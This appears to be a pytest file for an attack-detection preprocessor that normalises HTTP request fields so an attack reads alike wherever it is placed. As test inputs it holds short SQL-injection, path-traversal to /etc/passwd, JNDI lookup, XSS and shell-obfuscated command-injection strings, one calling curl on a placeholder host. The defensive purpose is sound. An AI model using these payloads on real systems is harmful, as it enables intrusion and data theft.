"""Model inputs: what names the place is taken out; an attack reads the same everywhere."""

import itertools
import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dragoman.prepare.fields import split
from dragoman.prepare.instances import CHUNK, OVERLAP, as_shell, instances_of, normal
from dragoman.records import Field, Payload, Where
from dragoman.synth.grammar import generate
from dragoman.synth.request import PLACES, wrap

HERE = Where("test")


def one(value: bytes, name="query:item") -> list[bytes]:
    return instances_of(Field(name, value, 0, len(value)))


def all_of(data: bytes, kind="http") -> set[bytes]:
    return {text for f in split(Payload("1", data, kind, HERE)).fields for text in instances_of(f)}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (b"SELECT 12345 FROM Users", b"select 0 from users"),
        (b"http://shop.example.com/a", b"http://host~/a"),
        (b"http://198.51.100.7/a", b"http://host~/a"),
        (b"http://127.0.0.1:8080/", b"http://local~:0/"),
        (b"http://[::1]/", b"http://local~/"),
        (b"http://localhost/", b"http://local~/"),
        (b"http://0x7f000001/", b"http://local~/"),
        (b"http://169.254.169.254/latest", b"http://metadata~/latest"),
        (b"http://192.168.1.10/admin", b"http://private~/admin"),
        (b"a  \t b", b"a b"),
        (b"token0123456789abcdefXYZW;", b"token0~;"),
        ("Ünï\x01".encode(), b"\x80\x80n\x80\x80\x01"),
    ],
)
def test_what_names_the_place_is_masked(value, expected):
    assert normal(value) == expected


def test_a_request_in_which_nothing_can_carry_an_attack_has_no_instances():
    data = b"GET /shop/item/42?id=42&sort=price HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"
    assert all_of(data) == set()


def test_host_and_product_path_do_not_change_the_instances():
    def at(host, product):
        line = f"GET /{product}/x.php?f=../../../etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n"
        return all_of(line.encode())

    assert at("shop.example.com", "store") == at("192.0.2.7:8080", "cms/v2/plugins/gallery")


def test_the_plain_prefix_of_a_path_is_masked():
    assert one(b"/cms/v2/../../etc/passwd", "path") == one(b"/a/../../etc/passwd", "path")
    assert one(b"/plain/index.html", "path") == []


def test_digits_do_not_change_the_instances():
    assert one(b"id=1 union select 1,22,333") == one(b"id=9 union select 7,8,9")


def test_a_parameter_is_named_only_beside_a_url():
    assert one(b"https://example.net/x", "query:next") == [b"next=https://host~/x"]
    assert one(b"<b>", "query:next") == one(b"<b>", "query:q") == [b"<b>"]


def test_plain_headers_are_left_out_and_others_are_not():
    assert one(b"gzip, deflate", "header:accept-encoding") == []
    assert one(b"${jndi:ldap://example.net/a}", "header:accept-encoding")


def test_each_reading_is_an_instance():
    import base64

    value = base64.b64encode(b"<script>alert(1)</script>")
    assert one(value)[1] == b"<script>alert(0)</script>"


@pytest.mark.parametrize("size", [CHUNK - 1, CHUNK, CHUNK + 1, 2000, 60_000])
def test_long_values_become_overlapping_chunks(size):
    text = re.sub(rb"[^;<>a-g]", b"g", random.Random(size).randbytes(size))
    chunks = one(text.replace(b"g", b"<;"))
    assert all(len(c) <= CHUNK for c in chunks)
    assert all(a[-OVERLAP:] == b[:OVERLAP] for a, b in itertools.pairwise(chunks))
    whole = chunks[0] + b"".join(c[OVERLAP:] for c in chunks[1:])
    assert whole == normal(text.replace(b"g", b"<;"))


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000), st.sampled_from(["value", "path", "path:1", "header:x", "json:a"]))
def test_any_bytes_give_bounded_instances(value, name):
    assert all(0 < len(t) <= CHUNK for t in one(value, name)) or value == b""


# -- the same attack in another place ----------------------------------------------------------

ATTACKS = [
    s.payload
    for slug in (
        "sql-injection",
        "cross-site-scripting",
        "command-injection",
        "path-traversal",
        "code-injection",
        "server-side-request-forgery",
        "unsafe-deserialization",
    )
    for s in generate(slug, 80, 11)
    if s.kind == "value"
]

# What a place cannot carry as it is: a plus reads as a space where no space stands beside it, JSON
# and XML have escapes of their own, a path has its own slashes, a header has no line breaks.
CANNOT = {
    "query": rb"\+",
    "form": rb"\+",
    "cookie": rb"\+",
    "header": rb"^\s|\s$|[\x00-\x08\x0a-\x1f\x7f-\xff]",
    "json": rb"[\"\\\x00-\x1f\x7f-\xff]|^.{0,2}$",
    "xml": rb"[<>&%\"\\\x00-\x1f\x7f-\xff]|^\s|\s$|^.{0,2}$",
    "multipart": rb"[\r\n\x7f-\xff]|^--",
    "path": rb"[/%?#+\\\s\x7f-\xff]",
}
NAMELESS = {"xml", "path"}  # where a URL is read without its parameter's name
PLAIN = re.compile(rb"[\w .,:~=@-]*")  # read only as part of the whole body or path


def _carried(attack: bytes, place: str) -> bool:
    if re.search(CANNOT[place], attack) or PLAIN.fullmatch(attack):
        return False
    return place not in NAMELESS or not any(t.startswith(b"item=") for t in one(attack))


@pytest.mark.parametrize("place", PLACES)
def test_an_attack_reads_the_same_in_every_context(place):
    fit = [a for a in ATTACKS if _carried(a, place)]
    assert len(fit) > 20
    checked = 0
    for number, attack in enumerate(fit):
        for seed in range(3):
            rng = random.Random(f"{number}/{seed}")
            header = place == "header"
            data = wrap(attack, rng, where=place, param="X-Item" if header else "item")
            if b'name="item"; filename' in data or b"<![CDATA[" in data:
                continue  # a file is read together with its name, CDATA as part of the body
            own = one(attack, "header:x-item" if header else "query:item")
            found = all_of(data)
            if place in ("query", "form"):  # a URL is read with the kind of script it goes to
                found |= {re.sub(rb"^\.[a-z0-9]+\?", b"", text) for text in found}
            if place == "path":  # a lone segment is read with its slash
                found |= {text.removeprefix(b"/") for text in found}
            assert set(own) <= found, (attack, data)
            checked += 1
    assert checked > 30


@pytest.mark.parametrize(
    ("value", "read"),
    [
        (b'i""d', b"id"),
        (b"w'h'o; i\\d | wh$@oami", b"w'h'o; id | whoami"),
        (b"cat$IFS$9/etc/passwd", b"cat /etc/passwd"),
        (b"cat${IFS}/etc/passwd", b"cat /etc/passwd"),
        (b"{curl,http://a.example.com/x}", b"curl http://host~/x"),
    ],
)
def test_words_a_shell_joins_are_read_joined_too(value, read):
    found = one(value)
    assert found[-1] == read
    assert len(found) == 2  # and as they were written


@pytest.mark.parametrize(
    "value", [b"price: $5 off", b"{1,3} times", b"one \\ two", b'say "no" twice']
)
def test_what_a_shell_would_not_change_is_read_once(value):
    assert len(one(value)) == 1
    assert as_shell(b"plain words") is None


def test_what_interpreters_skip_is_left_out():
    assert one(b"1/*some words*/union/**/select 1") == [b"0/**/union/**/select 0"]
    assert one(b"1/*!50000union*/select 1")[0] == b"0/*!0union*/select 0"  # MySQL runs it
    assert one(b"1 union#words\nselect 1") == [b"0 union#\nselect 0"]
    assert one(b"1\x1funion\x02select") == [b"0 union select"]
    assert one(b"/..;jsessionid=1/admin/..;/x") == [b"/..;/admin/..;/x"]


def test_plain_words_are_left_out_only_of_headers_of_a_fixed_syntax():
    assert one(b"-1 union select 1,2", "header:x-item") == [b"-0 union select 0,0"]
    assert one(b"en-US, en", "header:accept-language") == []
